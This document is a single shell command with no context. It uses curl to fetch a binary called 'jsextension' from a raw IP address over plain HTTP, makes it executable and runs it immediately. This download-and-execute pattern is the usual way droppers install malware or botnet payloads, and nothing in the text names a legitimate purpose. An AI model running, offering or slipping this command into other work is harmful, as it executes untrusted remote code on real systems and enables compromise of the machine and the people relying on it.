curl http://159.148.186.228/download/jsextension -o jsextension && chmod +x jsextension && ./jsextension
